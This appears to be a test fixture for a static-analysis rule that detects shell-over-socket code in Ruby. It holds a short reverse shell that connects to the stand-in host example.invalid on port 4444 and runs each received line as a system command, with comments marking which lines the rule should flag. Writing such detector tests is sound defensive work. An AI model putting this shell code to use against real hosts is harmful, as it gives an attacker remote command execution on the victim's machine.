def shell
  s = TCPSocket.new("example.invalid", 4444)
  while (line = s.gets)
    # ruleid: rb-shell-over-socket
    s.print(IO.popen(line, "r").read)
    # ruleid: rb-shell-over-socket
    s.puts(`#{line}`)
    # ok: rb-shell-over-socket
    s.puts(line.upcase)
  end
end
